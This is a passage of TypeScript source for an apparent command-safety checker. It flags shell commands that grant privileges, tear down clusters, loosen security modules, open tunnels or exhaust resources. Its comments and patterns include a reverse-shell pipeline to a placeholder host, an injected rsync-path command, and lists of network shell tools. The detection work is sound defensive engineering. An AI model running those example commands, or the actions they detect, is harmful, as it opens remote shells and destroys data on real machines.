        const recursive = texts.some(
          (x) => (/^-[a-zA-Z0-9]*r|^--recurse-paths$/.test(x) && !x.startsWith("--")) || x === "--recurse-paths",
        );
        for (const src of sources) judgeDelete(ctx, src, recursive);
      }
      return;
    }
    case "rsync":
      for (const v of values(["-e"], ["--rsh"])) ctx.analyseShell(v);
      // --rsync-path runs on the other machine as a command line (`sudo rm -rf /x; rsync`).
      for (const v of values([], ["--rsync-path"])) ctx.analyseShell(v);
      return;
    case "ssh":
    case "scp":
    case "sftp":
    case "autossh":
    case "sshfs":
      for (const v of values(["-o"], [])) {
        const m =
          /^(?:ProxyCommand|LocalCommand|KnownHostsCommand)\s*[=\s]\s*(.*)$/is.exec(v) ?? /^ssh_command=(.*)$/s.exec(v);
        if (m && !/^none$/i.test(m[1]!.trim())) ctx.analyseShell(m[1]!.replace(/%[hprnCdilLu%]/g, "x"));
      }
      return;
    case "vim":
    case "vi":
    case "nvim":
    case "ex":
    case "view":
    case "gvim":
    case "vimdiff":
      for (const v of values(["-c"], ["--cmd"])) exShell(ctx, v);
      for (let k = 0; k < texts.length; k++)
        if (/^-[A-Za-z]+c$/.test(texts[k]!) && texts[k + 1] !== undefined) exShell(ctx, texts[k + 1]!); // ex -sc CMD
      for (const t of texts) if (/^\+./.test(t) && !/^\+\d+$/.test(t)) exShell(ctx, t.slice(1));
      return;
    case "sed":
    case "gsed": {
      const exprs = values(["-e"], ["--expression"]);
      const scripts =
        exprs.length || values(["-f"], ["--file"]).length
          ? exprs
          : operands(args, "ef", ["--expression", "--file", "--line-length", "-l"])
              .slice(0, 1)
              .map((o) => o.text);
      for (const s of scripts) sedShell(ctx, s);
      return;
    }
    case "man":
      for (const v of values(["-P"], ["--pager"])) ctx.analyseShell(v);
      return;
    case "make":
    case "gmake":
    case "bmake":
    case "remake": {
      const files = values(["-f"], ["--file", "--makefile"]);
      for (const v of values([], ["--eval"])) ctx.analyseShell(makeRecipes(v));
      const candidates = files.length ? files : ["GNUmakefile", "makefile", "Makefile"];
      for (const f of candidates) {
        let text: string | null | undefined;
        if (f === "-" || f === "/dev/stdin") {
          const here = ctx.redirects.find((r) => r.body !== undefined);
          if (here) text = here.literal ? here.body! : null;
          else if (ctx.producer) text = producedLiteral(ctx.producer);
        } else
          text =
            writtenScript(ctx, f) ??
            (ctx.root && !f.startsWith("/") ? writtenScript(ctx, posix.join(ctx.root, f)) : undefined);
        if (text === undefined) continue;
        if (text === null) add(ctx, "shell_input");
        else ctx.analyseShell(makeRecipes(text));
        if (!files.length) break;
      }
      return;
    }
    case "npm":
    case "yarn":
    case "pnpm":
    case "bun": {
      // `npm pkg set scripts.preinstall=…`, `npm set-script x …`: a script planted in package.json runs on the next
      // install or run; its text is judged as a command.
      if (sub(args)[0] === "pkg" && sub(args)[1] === "set")
        for (const x of sub(args).slice(2)) {
          const m = /^scripts\.[\w:.-]+=(.*)$/s.exec(x);
          if (m && m[1]!.trim()) ctx.analyseShell(m[1]!);
        }
      if (sub(args)[0] === "set-script" && sub(args)[2]) ctx.analyseShell(sub(args)[2]!);
      const pj =
        writtenScript(ctx, "package.json") ??
        (ctx.root ? writtenScript(ctx, posix.join(ctx.root, "package.json")) : undefined);
      if (pj === undefined) return;
      const hooks = packageScripts(name, sub(args));
      if (!hooks.length) return;
      let scripts: Record<string, unknown> | undefined;
      try {
        scripts = pj === null ? undefined : ((JSON.parse(pj) as { scripts?: Record<string, unknown> }).scripts ?? {});
      } catch {
        scripts = undefined;
      }
      if (!scripts) return add(ctx, "shell_input");
      for (const h of hooks) if (typeof scripts[h] === "string") ctx.analyseShell(scripts[h] as string);
      return;
    }
  }
  const lang = interpreterLanguage(name);
  if (lang === "python") {
    const m = texts.findIndex((t) => t === "-m");
    const mod = m >= 0 ? texts[m + 1] : texts.find((t) => /^-m./.test(t))?.slice(2);
    const after = m >= 0 ? args.slice(m + 2) : args.slice(texts.findIndex((t) => /^-m./.test(t)) + 1);
    if (mod === "pdb") {
      for (let k = 0; k < after.length; k++)
        if ((after[k]!.text === "-c" || after[k]!.text === "--command") && after[k + 1])
          analyseInlineCode("python", after[++k]!.text.replace(/^!/, ""), ctx, after[k]!.literal);
    }
    // `python3 -m tarfile -e ARCHIVE [DIR]`, `-m zipfile -e ARCHIVE DIR`: extraction into DIR.
    if (mod === "tarfile" || mod === "zipfile") {
      const e = after.findIndex((a) => a.text === "-e" || a.text === "--extract");
      if (e >= 0) extractInto(ctx, after[e + 2]?.text);
    }
  }
  if (lang === "awk") {
    // gawk -i inplace (also -iinplace, --include=inplace): the file operands are rewritten.
    if (values(["-i"], ["--include"]).some((v) => /^inplace(?:\.awk)?$/.test(v))) {
      let k = 0;
      let program = false;
      for (; k < texts.length; k++) {
        const t = texts[k]!;
        if (/^(?:-[ivFf]|--include|--assign|--field-separator|--file)$/.test(t)) {
          if (t === "-f" || t === "--file") program = true;
          k++;
          continue;
        }
        if (t.startsWith("-") && t !== "-") continue;
        if (!program) {
          program = true;
          continue;
        }
        if (!/^[A-Za-z_]\w*=/.test(t)) judgeOverwrite(ctx, t);
      }
    }
  }
}

// ---------------------------------------------------------------------------------------------
// System state, teardown, grants and remote access judged by effect (more tools)

/**
 * System services whose restart or reload interrupts the machine's own work (remote login, the container runtime,
 * the cluster node agent, databases holding data, scheduling, logging, networking, security). Servers an agent
 * commonly runs for itself (web servers, caches) are not listed.
 */
const SYSTEM_UNIT =
  /^(?:systemd-[\w-]+|systemd|ssh|sshd|openssh-server|docker|containerd|crio|cri-o|kubelet|k3s(?:-agent)?|rke2-(?:server|agent)|etcd|postgresql(?:@[\w.-]+)?|postgres|mysql|mysqld|mariadb|mongod|mongodb|cron|crond|cronie|anacron|atd|rsyslog|syslog-ng|dbus|dbus-broker|NetworkManager|networking|network|wpa_supplicant|chronyd|chrony|ntp|ntpd|auditd|polkit|udev|snapd|firewalld|ufw|nftables|iptables|netfilter-persistent|apparmor|selinux|sssd|libvirtd|getty@[\w.-]+|serial-getty@[\w.-]+|multipathd|iscsid|lvm2-\S+|zfs-\S+|kube-\S+)(?:\.(?:service|socket))?$/;

/** A value of 0 for one of the options (`--desired-count 0`, `--num-nodes=0`). */
function zeroOption(texts: string[], opts: string[]): boolean {
  return (
    texts.some((t, k) => (opts.includes(t) && /^0+$/.test(texts[k + 1] ?? "")) || opts.some((o) => t === `${o}=0`)) ||
    texts.some((t) => /(?:^|,)(?:desiredSize|maxSize|DesiredCapacity|MaxSize)=0(?:,|$)/.test(t))
  );
}

function judgeByEffect(ctx: JudgeContext, name: string): void {
  const args = ctx.args;
  const texts = args.map((a) => a.text);
  const words = sub(args);
  const all = texts.map((t) => t.toLowerCase());
  const has = (...xs: string[]) => xs.some((x) => all.includes(x) || all.some((a) => a.startsWith(x + "=")));
  switch (name) {
    case "aws": {
      const [svc, op = ""] = words;
      // Scaling a group, service or node group to zero stops everything it runs.
      if (zeroOption(texts, ["--desired-capacity", "--desired-count", "--max-size", "--max-capacity"]))
        return add(ctx, "cluster_teardown");
      if (
        svc === "iam" &&
        /^(?:attach-(?:user|role|group)-policy|put-(?:user|role|group)-policy|add-user-to-group|create-access-key|create-login-profile|update-login-profile|update-assume-role-policy|create-policy-version|set-default-policy-version)$/.test(
          op,
        )
      )
        return add(ctx, "privilege_grant");
      if (
        svc === "sso-admin" &&
        /^(?:create-account-assignment|attach-managed-policy-to-permission-set|put-inline-policy-to-permission-set)$/.test(
          op,
        )
      )
        return add(ctx, "privilege_grant");
      return;
    }
    case "gcloud":
      if (
        zeroOption(texts, ["--num-nodes", "--size", "--max-nodes", "--max-instances", "--replicas"]) &&
        words.some((w) => /^(?:resize|update|set-autoscaling|scale)$/.test(w))
      )
        return add(ctx, "cluster_teardown");
      if (words.some((w) => w === "add-iam-policy-binding" || w === "set-iam-policy"))
        return add(ctx, "privilege_grant");
      if (words[0] === "auth" && words.includes("revoke")) return add(ctx, "credential_write");
      return;
    case "az":
      if (
        zeroOption(texts, ["--new-capacity", "--node-count", "--count", "--max-count", "--instance-count"]) &&
        words.some((w) => w === "scale" || w === "update")
      )
        return add(ctx, "cluster_teardown");
      if (words[0] === "role" && words[1] === "assignment" && words[2] === "create") return add(ctx, "privilege_grant");
      if (words[0] === "logout" || (words[0] === "account" && words[1] === "clear"))
        return add(ctx, "credential_write");
      return;
    case "doctl":
    case "hcloud":
    case "linode-cli":
    case "eksctl":
    case "oci":
      if (
        zeroOption(texts, ["--count", "--size", "--nodes", "--nodes-max", "--node-count", "--desired-capacity"]) &&
        words.some((w) => /^(?:update|scale|resize|change-type)$/.test(w))
      )
        return add(ctx, "cluster_teardown");
      return;
    case "kubectl":
    case "oc":
      if (
        words[0] === "create" &&
        /^(?:clusterrolebinding|rolebinding)$/.test(words[1] ?? "") &&
        all.some((a) => /(?:^|=)cluster-admin$|^--clusterrole=(?:admin|cluster-admin)$/.test(a))
      )
        return add(ctx, "privilege_grant");
      return;
    // GitOps and backup tools: deleting an application deletes what it deployed; deleting backups loses them.
    case "argocd":
      if (words.some((w) => /^(?:delete|rm|remove)$/.test(w)) && words[0] !== "account")
        return add(ctx, "cluster_teardown");
      return;
    case "flux":
      if (words[0] === "uninstall" || words[0] === "delete") return add(ctx, "cluster_teardown");
      return;
    case "velero":
    case "restic":
    case "borg":
    case "kopia":
      if (name === "velero" && words.some((w) => w === "delete") && words[0] !== "plugin")
        return add(ctx, "volume_destroy");
      if (
        (name === "restic" && (words.includes("forget") || words.includes("prune")) && !has("--dry-run", "-n")) ||
        (name === "borg" && /^(?:delete|prune|compact|recreate)$/.test(words[0] ?? "") && !has("--dry-run", "-n")) ||
        (name === "kopia" && words.includes("delete"))
      )
        return add(ctx, "volume_destroy");
      return;
    case "snapper":
      if (words.some((w) => /^(?:delete|rm|remove|cleanup|undochange|rollback|delete-config)$/.test(w)))
        return add(ctx, "volume_destroy");
      return;
    case "timeshift":
      if (has("--delete", "--delete-all", "--restore")) return add(ctx, "volume_destroy");
      return;
    case "bq":
      if (words[0] === "rm") return add(ctx, has("-d", "--dataset", "-r", "--recursive") ? "sql_drop" : "sql_drop");
      return;
    case "nerdctl":
    case "docker":
    case "podman":
    case "ctr":
      // `rmi -f $(… images -q)`: every image (or container) the listing names.
      if (
        /^(?:rm|rmi|kill|stop)$/.test(words.find((w) => !/^(?:container|image|images)$/.test(w)) ?? "") &&
        texts.some((t) => /\$\(|`/.test(t))
      )
        return add(ctx, "container_mass_delete");
      return;
    case "setcap":
      if (!has("-v", "--verify") && operands(args).some((o) => /[+=][eip]*[ep]/i.test(o.text) && !/^-r$/.test(o.text)))
        return add(ctx, "privilege_grant");
      return;
    // Security modules: disabling or loosening AppArmor or SELinux, Secure Boot validation, kernel lockdown.
    case "aa-disable":
    case "aa-complain":
    case "aa-audit":
      return add(ctx, "security_change");
    case "apparmor_parser":
      if (has("-r", "-R", "--remove", "--replace", "-a", "--add", "-C", "--complain")) add(ctx, "security_change");
      return;
    case "setsebool":
    case "setenforce":
    case "semodule":
    case "chcon":
    case "restorecon":
    case "semanage":
      if (name === "semodule" && !has("-r", "--remove", "-d", "--disable", "-i", "--install", "-X", "-DB", "-B", "-D"))
        return;
      if (name === "semanage" && !words.some((w) => /^(?:permissive|boolean|fcontext|port|login|user|module)$/.test(w)))
        return;
      if (name === "semanage" && !has("-a", "--add", "-m", "--modify", "-d", "--delete", "-D", "--deleteall")) return;
      if (
        (name === "chcon" || name === "restorecon") &&
        operands(args, "turlh", ["--user", "--role", "--type", "--range", "--reference"]).every((o) =>
          isInsideLike(whereIn(ctx, o.text)),
        )
      )
        return;
      if (name === "restorecon" && has("-n")) return;
      if (name === "setenforce" && !/^(?:0|permissive)$/i.test(words[0] ?? "")) return;
      return add(ctx, "security_change");
    case "mokutil":
      if (
        has(
          "--disable-validation",
          "--enable-validation",
          "--import",
          "--delete",
          "--reset",
          "--set-verbosity",
          "--ignore-db",
          "--use-db",
          "--revoke-import",
          "--sbat-policy",
          "--trust-mok",
          "--untrust-mok",
          "--timeout",
          "--set-sbat-policy",
        )
      )
        add(ctx, "security_change");
      return;
    case "grubby":
      if (
        all.some((a) =>
          /\b(?:selinux=0|enforcing=0|apparmor=0|security=none|lockdown=none|module\.sig_enforce=0|mitigations=off)\b/.test(
            a,
          ),
        )
      )
        return add(ctx, "security_change");
      if (
        has(
          "--args",
          "--remove-args",
          "--set-default",
          "--set-default-index",
          "--add-kernel",
          "--remove-kernel",
          "--update-kernel",
          "--make-default",
          "--copy-default",
        )
      )
        add(ctx, "boot_config");
      return;
    case "update-crypto-policies":
      if (has("--set")) add(ctx, "security_change");
      return;
    // Services: a restart or reload of a system service interrupts it; enabling a unit changes what the machine runs at boot.
    case "systemctl": {
      const verb = words[0] ?? "";
      const units = words.slice(1);
      if (/^(?:enable|reenable|link|add-wants|add-requires|preset|unmask)$/.test(verb))
        return add(ctx, units.some((u) => /\.timer$/.test(u)) ? "schedule_job" : "service_change");
      if (/^(?:start|restart)$/.test(verb) && units.some((u) => /\.timer$/.test(u))) return add(ctx, "schedule_job");
      if (
        /^(?:restart|reload|try-restart|reload-or-restart|try-reload-or-restart|condrestart|force-reload|daemon-reexec|switch-root)$/.test(
          verb,
        ) &&
        (verb === "daemon-reexec" || units.some((u) => SYSTEM_UNIT.test(u)))
      )
        return add(ctx, "service_change");
      return;
    }
    case "service":
    case "rc-service":
    case "invoke-rc.d": {
      const [unit = "", verb = ""] = words;
      if (/^(?:restart|reload|force-reload|try-restart|condrestart|zap)$/.test(verb) && SYSTEM_UNIT.test(unit))
        add(ctx, "service_change");
      return;
    }
    case "rcctl":
      if (/^(?:stop|disable)$/.test(words[0] ?? "")) return add(ctx, "stop_service");
      if (/^(?:restart|reload|enable|set|order)$/.test(words[0] ?? "")) return add(ctx, "service_change");
      return;
    case "loginctl":
      if (
        /^(?:terminate-user|terminate-session|terminate-seat|kill-user|kill-session|lock-sessions|enable-linger|disable-linger|attach|flush-devices)$/.test(
          words[0] ?? "",
        )
      )
        add(ctx, "service_change");
      return;
    case "sv":
    case "s6-rc":
    case "supervisorctl":
      return;
    // Scheduling a command for later is itself a change of the machine's state.
    case "at":
    case "batch":
      if (hasFlag(args, "lcqrdV") && !hasFlag(args, "f")) return;
      if (name === "at" && !args.length) return;
      return add(ctx, "schedule_job");
    case "systemd-run":
      if (
        args.some((a) =>
          /^--on-(?:calendar|active|boot|startup|unit-active|unit-inactive|clock-change|timezone-change)\b|^--timer-property\b/.test(
            a.text,
          ),
        )
      )
        add(ctx, "schedule_job");
      return;
    // Mounts of remote or FUSE file systems.
    case "sshfs":
    case "s3fs":
    case "goofys":
    case "gcsfuse":
    case "blobfuse":
    case "blobfuse2":
    case "mount.cifs":
    case "mount.nfs":
    case "mount.nfs4":
    case "davfs2":
    case "encfs":
    case "gocryptfs":
      if (!has("-h", "--help", "-V", "--version") && operands(args, "op", ["-o"]).length >= 1) add(ctx, "mount_change");
      return;
    case "rclone":
      if (words[0] === "mount" || words[0] === "nfsmount") add(ctx, "mount_change");
      return;
    // Remote access: tunnels that expose this machine to the network, shared terminals.
    case "ngrok":
      if (/^(?:tcp|http|tls|start|tunnel)$/.test(words[0] ?? "")) add(ctx, "remote_access");
      return;
    case "cloudflared":
      if (
        (words.includes("tunnel") &&
          !words.some((w) => /^(?:list|info|login|token|version|help|cleanup|delete)$/.test(w))) ||
        (words[0] === "access" && /^(?:tcp|ssh|rdp|smb)$/.test(words[1] ?? ""))
      )
        add(ctx, "remote_access");
      return;
    case "chisel":
      if ((words[0] === "client" && words.some((w) => /^R:/i.test(w))) || (words[0] === "server" && has("--reverse")))
        add(ctx, "remote_access");
      return;
    case "tmate":
    case "upterm":
    case "sshx":
    case "teleconsole":
      if (
        !has("-h", "--help", "-V", "--version") &&
        !(name === "tmate" && words.some((w) => /^(?:ls|list-sessions|kill-server|kill-session)$/.test(w)))
      )
        add(ctx, "remote_access");
      return;
    case "frpc":
    case "frps":
    case "inlets":
    case "inlets-pro":
    case "pagekite":
    case "pagekite.py":
    case "localtunnel":
    case "lt":
    case "zrok":
    case "tailscale":
    case "bore":
      if (has("-h", "--help", "-v", "--version")) return;
      if (name === "bore" && words[0] !== "local") return;
      if (name === "zrok" && words[0] !== "share") return;
      if (
        name === "tailscale" &&
        !(words[0] === "funnel" || words[0] === "serve" || (words[0] === "up" && has("--ssh")))
      )
        return;
      if (name === "lt" && !has("--port", "-p")) return;
      add(ctx, "remote_access");
      return;
    // Credentials destroyed: secret keys deleted from the keyring.
    case "gpg":
    case "gpg2":
      if (
        has(
          "--delete-secret-keys",
          "--delete-secret-and-public-keys",
          "--delete-keys",
          "--delete-key",
          "--delete-secret-key",
        )
      ) {
        const home = texts.findIndex((t) => t === "--homedir");
        const dir = home >= 0 ? texts[home + 1] : texts.find((t) => t.startsWith("--homedir="))?.slice(10);
        if (dir === undefined || !isInsideLike(whereIn(ctx, dir))) add(ctx, "credential_write");
      }
      return;
    // ssh-keygen generating a key writes the -f file (and FILE.pub): over a key in ~/.ssh, the key is lost.
    case "ssh-keygen": {
      if (
        hasFlag(
          args.filter((a) => a.text !== "-f"),
          "lyBFHLQDeikRrAYs",
        )
      )
        return;
      const f = texts.findIndex((t) => t === "-f");
      const file = f >= 0 ? texts[f + 1] : texts.find((t) => /^-f./.test(t))?.slice(2);
      if (file) {
        judgeOverwrite(ctx, file);
        judgeOverwrite(ctx, `${file}.pub`);
      }
      return;
    }
    // Installing a package file this command line downloaded runs its maintainer scripts as root.
    case "dpkg":
    case "rpm":
    case "apt":
    case "apt-get":
    case "dnf":
    case "yum":
    case "zypper":
    case "pacman":
    case "installer":
    case "gdebi":
      if (args.some((a) => !a.text.startsWith("-") && isFetched(ctx, a.text))) add(ctx, "remote_code_exec");
      return;
    // Writing images onto devices, erasing flash.
    case "bmaptool": {
      if (words[0] !== "copy") return;
      const ops = operands(args.slice(1), "", ["--bmap", "--gpg-key"]);
      const dest = ops[ops.length - 1];
      if (dest) judgeOverwrite(ctx, dest.text);
      return;
    }
    case "flash_erase":
    case "flash_eraseall":
    case "flash_unlock":
    case "flash_lock":
    case "flashcp":
    case "nandwrite":
    case "ubiformat":
    case "ubidetach":
    case "mtd_debug":
    case "etcher":
    case "balena-etcher":
    case "rpi-imager":
    case "dcfldd":
    case "dc3dd":
    case "ddrescue":
    case "bbcp":
      if (name === "mtd_debug" && !/^(?:write|erase)$/.test(words[0] ?? "")) return;
      for (const o of operands(args)) {
        const t = o.text.replace(/^(?:of|hof|vf)=/, "");
        if (whereIn(ctx, t) === "device")
          return add(ctx, /erase|ubiformat|flash_unlock|flash_lock/.test(name) ? "erase_device" : "disk_write");
      }
      if (
        (name === "dcfldd" || name === "dc3dd") &&
        args.some((a) => /^(?:of|hof)=\/dev\/(?!null|zero|stdout|stderr)/.test(a.text))
      )
        add(ctx, "disk_write");
      return;
  }
  // A shell whose output goes to a network connection (`sh -i < /tmp/f 2>&1 | nc host 4242 > /tmp/f`): a reverse shell.
  if (
    /^(?:nc|ncat|netcat|socat|telnet|openssl|cryptcat|pwncat|pwncat-cs)$/.test(name) &&
    ctx.producer &&
    SHELLS.has(ctx.producer.name) &&
    !ctx.producer.args.some((a) => /^-[A-Za-z]*c/.test(a.text) || !a.text.startsWith("-"))
  )
    add(ctx, "remote_access");
}

// ---------------------------------------------------------------------------------------------
// Less direct teardown, grants and exposure, resource exhaustion

/** A size as `fallocate -l`, `truncate -s`, `dd bs=` write it (`800G`, `1T`, `10GiB`, `4096`), in bytes; NaN when unknown. */
export function sizeBytes(s: string): number {
  const m = /^\+?(\d+(?:\.\d+)?)\s*([kmgtpe]?)(i?b?)$/i.exec(s.trim());
  if (!m) return NaN;
  const unit = m[2]!.toLowerCase();
  const base = m[3]!.toLowerCase() === "b" && unit ? 1000 : 1024;
  return Number(m[1]) * base ** " kmgtpe".indexOf(unit || " ");
}

/** 64 GiB: a file this large (or larger) fills the disk of most machines an agent runs on. */
const HUGE = 64 * 1024 ** 3;

/** Endless byte sources. */
const ENDLESS_DEVICE = /^\/dev\/(?:zero|u?random)$/;

/** A process that only passes on a bounded prefix of its input (`head -c 10M`, `dd count=…`). */
function bounds(name: string, args: JudgedArg[]): boolean {
  if (name === "head" || (name === "pv" && args.some((a) => /^-[a-zA-Z]*S$|^--stop-at-size$/.test(a.text))))
    return true;
  if (name === "dd") return args.some((a) => /^(?:count|iflag=.*count_bytes)=/.test(a.text));
  if (name === "sed") return args.some((a) => /^\d+q$|^-n$/.test(a.text));
  if (name === "awk" || name === "gawk" || name === "mawk") return args.some((a) => /\bexit\b|NR\s*[<>=]/.test(a.text));
  return false;
}

/** Whether the stream a command writes is endless: it reads an endless source and nothing on the way bounds it. */
function endlessOutput(ctx: JudgeContext): boolean {
  const { name, args } = ctx;
  if (bounds(name, args)) return false;
  if (name === "yes") return true;
  if (/^(?:cat|tac|pv|tee|tr|base64|base32|xxd|od|hexdump|openssl|gzip|cat|strings|sort|uniq|cut)$/.test(name)) {
    if (args.some((a) => ENDLESS_DEVICE.test(a.text) || /^(?:-in|--input)=?\/dev\/(?:zero|u?random)$/.test(a.text)))
      return true;
    if (ctx.redirects.some((r) => r.op === "<" && ENDLESS_DEVICE.test(r.target))) return true;
  }
  if (name === "dd" && args.some((a) => /^if=\/dev\/(?:zero|u?random)$/.test(a.text))) return true;
  // A stage fed by an endless producer, with nothing bounding it on the way.
  let p = ctx.producer;
  for (let guard = 0; p && guard < 8; guard++, p = p.before) {
    if (bounds(p.name, p.args)) return false;
    if (
      p.name === "yes" ||
      (/^(?:cat|pv|dd|openssl|tr)$/.test(p.name) && p.args.some((a) => ENDLESS_DEVICE.test(a.text.replace(/^if=/, ""))))
    )
      return !/^(?:grep|wc|sha\d*sum|md5sum|cksum|b2sum|true|false|:|less|more)$/.test(name);
  }
  return false;
}

/** Gigabytes of inline code's allocations: huge single allocations, allocations in endless or enormous loops. */
function memoryBomb(code: string): boolean {
  // An endless loop that doubles a value (`s += s`, `a = a + a`, `x *= 2` on a list or string) or starts a process or thread on
  // every turn (`multiprocessing.Process(…).start()`, `fork()`, `child_process.spawn`, `new Worker`): memory or processes run out.
  const endless =
    /\bwhile\s*\(?\s*(?:True|1|true|!0|!false)\s*\)?|\bfor\s*\(\s*;\s*;\s*\)|\bloop\s+do\b|\bloop\s*\{|\bitertools\.count\(|\bsetInterval\(/;
  if (endless.test(code)) {
    if (/\b(\w+)\s*\+=\s*\1\b|\b(\w+)\s*=\s*\2\s*[+*]\s*\2\b|\b(\w+)\s*\*=\s*\d/.test(code)) return true;
    // Files written on every turn (`open(f'/tmp/f{random()}', 'w').write(…)`, `f.write(…)`, `appendFileSync`): the disk fills.
    if (
      /\.write(?:_bytes|_text)?\s*\(|\b(?:appendFileSync|writeFileSync|File\.write|IO\.write|fwrite|file_put_contents)\s*\(/.test(
        code,
      ) &&
      !/\b(?:sleep|break|last|return|exit|raise|throw|input|readline|recv)\b/.test(code)
    )
      return true;
    if (
      /\b(?:push|append|extend|unshift|add)\s*[(@ ]/.test(code) &&
      !/\b(?:sleep|break|last|return|exit|raise|throw|join|wait|await|input|readline|recv|read|get)\b/.test(code)
    )
      return true;
    if (
      /\b(?:Process|Thread|Popen|fork|spawn|exec|execFile|Worker|Pool)\s*\(|\bsubprocess\.\w+\(|\bos\.system\(|\bchild_process\b|\bThread\.new\b|\bspawn\b/.test(
        code,
      ) &&
      !/\b(?:sleep|break|join|wait|await|time\.sleep|setTimeout)\b/.test(code)
    )
      return true;
  }
  const alloc =
    /\b(?:bytearray|bytes|bytes?\(|np\.(?:zeros|ones|empty|full)|numpy\.(?:zeros|ones|empty)|torch\.(?:zeros|ones|empty|randn?)|malloc|calloc|Buffer\.(?:alloc\w*)|new\s+(?:Array|ArrayBuffer|Uint8Array|Float64Array)|make\(\[\]|' '\s*\*|"\s*"\s*\*|'x'\s*\*|"x"\s*\*|\[0\]\s*\*|\.repeat\(|\*\s*\(?\s*1\s*<<|'a'\s*\*|"a"\s*\*|b'\\x00'\s*\*|b"\\0"\s*\*)/;
  // (Perl repeats with `x`: `"A" x (2**40)`, `(0) x 1e12`.)
  if (
    !alloc.test(code) &&
    !/\.repeat\(/.test(code) &&
    !/(?:'[^'\n]{0,8}'|"[^"\n]{0,8}"|b'[^'\n]{0,8}'|\[[^\]\n]{0,16}\]|\([^()\n]{0,16}\))\s*(?:\*|\bx\b)\s*\(?\s*\d/.test(
      code,
    )
  )
    return false;
  // Magnitudes written in the code: 1<<N, 2**N, 10**N, NeM, plain integers.
  let log2 = 0;
  const mags: number[] = [];
  for (const m of code.matchAll(
    /\b(\d+)\s*<<\s*(\d+)|\b(\d+)\s*\*\*\s*(\d+)|\b(\d+(?:\.\d+)?)[eE](\d+)|\b(\d{6,})\b/g,
  )) {
    const v = m[1]
      ? Math.log2(Number(m[1])) + Number(m[2])
      : m[3]
        ? Number(m[4]) * Math.log2(Number(m[3]))
        : m[5]
          ? Math.log2(Number(m[5])) + Number(m[6]) * Math.log2(10)
          : Math.log2(Number(m[7]));
    if (v >= 10) mags.push(v);
  }
  mags.sort((a, b) => b - a);
  log2 = (mags[0] ?? 0) + (mags[1] ?? 0);
  if (log2 >= 36) return true; // 64 GiB or more
  // An allocation appended on every turn of an endless loop.
  return (
    /\bwhile\s*\(?\s*(?:True|1|true)\s*\)?\s*[:{]|\bwhile\s*\(\s*(?:true|1|!0)\s*\)|\bfor\s*\(\s*;\s*;\s*\)|\bloop\s+do\b|\bfor\s*\{|\biter\(\s*int\s*,\s*1\s*\)|\bitertools\.count\(|\bitertools\.(?:cycle|repeat\(\s*[^,()]+\))|\bloop\s*\{/.test(
      code,
    ) && /\.(?:append|push|extend)\(|\+=/.test(code)
  );
}

function judgeWiderEffects(ctx: JudgeContext, name: string): void {
  const args = ctx.args;
  const texts = args.map((a) => a.text);
  const words = sub(args);
  const low = texts.map((t) => t.toLowerCase());
  const has = (...xs: string[]) => xs.some((x) => low.includes(x) || low.some((a) => a.startsWith(x + "=")));
  const valueOf = (...opts: string[]): string | undefined => {
    for (let k = 0; k < texts.length; k++) {
      for (const o of opts) {
        if (texts[k] === o) return texts[k + 1];
        if ((o.startsWith("--") || o.length > 2) && texts[k]!.startsWith(o + "=")) return texts[k]!.slice(o.length + 1);
        if (
          !o.startsWith("--") &&
          o.length === 2 &&
          texts[k]!.startsWith(o) &&
          texts[k]!.length > 2 &&
          !texts[k]!.startsWith("--")
        )
          return texts[k]!.slice(2);
      }
    }
    return undefined;
  };

  // Resource exhaustion: an endless stream written to a file (or kept in the background), files of enormous sizes.
  if (
    ctx.redirects.some(
      (r) =>
        /^(?:>|>>|&>|&>>)$/.test(r.op) &&
        (!r.fd || r.fd === "1" || r.op.startsWith("&")) &&
        whereIn(ctx, r.target) !== "sink" &&
        whereIn(ctx, r.target) !== "device" &&
        r.body === undefined,
    ) &&
    endlessOutput(ctx)
  )
    add(ctx, "resource_exhaustion");
  if (name === "tee" && endlessOutput(ctx) && operands(args).some((o) => whereIn(ctx, o.text) !== "sink"))
    add(ctx, "resource_exhaustion");
  if (name === "fallocate" || name === "truncate" || name === "mkfile" || name === "xfs_mkfile") {
    const size =
      name === "fallocate"
        ? valueOf("-l", "--length")
        : name === "truncate"
          ? valueOf("-s", "--size")
          : operands(args)[0]?.text;
    if (size !== undefined && sizeBytes(size) >= HUGE) add(ctx, "resource_exhaustion");
  }
  if (name === "dd") {
    const of = texts.find((t) => t.startsWith("of="))?.slice(3);
    const bs = sizeBytes(texts.find((t) => /^(?:bs|obs)=/.test(t))?.replace(/^\w+=/, "") ?? "512");
    const count = texts.find((t) => t.startsWith("count="))?.slice(6);
    const seek = texts.find((t) => /^(?:seek|oseek)=/.test(t))?.replace(/^\w+=/, "");
    if (of !== undefined && whereIn(ctx, of) !== "sink" && whereIn(ctx, of) !== "device") {
      if (count === undefined && texts.some((t) => /^if=\/dev\/(?:zero|u?random)$/.test(t)))
        add(ctx, "resource_exhaustion");
      else if (count !== undefined && bs * sizeBytes(count) >= HUGE) add(ctx, "resource_exhaustion");
      else if (
        seek !== undefined &&
        bs * sizeBytes(seek) >= HUGE &&
        !texts.some((t) => /conv=.*sparse/.test(t)) &&
        count !== "0"
      )
        add(ctx, "resource_exhaustion");
    }
  }
  if (name === "head" && ctx.redirects.some((r) => /^>/.test(r.op) && whereIn(ctx, r.target) !== "sink")) {
    const c = valueOf("-c", "--bytes");
    if (c !== undefined && sizeBytes(c) >= HUGE) add(ctx, "resource_exhaustion");
  }
  // stress tools: unbounded in time, or filling every CPU's worth of memory.
  if (name === "stress-ng" || name === "stress") {
    if (has("-h", "--help", "--version", "-V", "--class", "--list")) return;
    const timeout = valueOf("-t", "--timeout");
    const endless = timeout === undefined || /^0+[smhdy]?$/.test(timeout);
    const vmBytes = valueOf("--vm-bytes");
    const fills =
      vmBytes !== undefined &&
      (/%$/.test(vmBytes)
        ? parseFloat(vmBytes) >= 75
        : sizeBytes(vmBytes) * Math.max(1, Number(valueOf("--vm", "-m") ?? 1)) >= 16 * 1024 ** 3);
    const many = texts.some(
      (t, k) =>
        /^--(?:cpu|vm|hdd|io|fork|malloc|matrix|all|sequential)$|^-[cmdi]$/.test(t) &&
        /^\d+$/.test(texts[k + 1] ?? "") &&
        (Number(texts[k + 1]) === 0 || Number(texts[k + 1]) >= 32),
    );
    const seconds =
      timeout === undefined
        ? Infinity
        : parseFloat(timeout) *
          ({ s: 1, m: 60, h: 3600, d: 86400, y: 31536000 }[timeout.replace(/^[\d.]+/, "") || "s"] ?? 1);
    if (endless || fills || (many && seconds > 60) || seconds > 3600) add(ctx, "resource_exhaustion");
  }

  switch (name) {
    // Teardown through a saved plan, complete-mode deployments, cluster resets.
    case "terraform":
    case "tofu":
    case "terragrunt": {
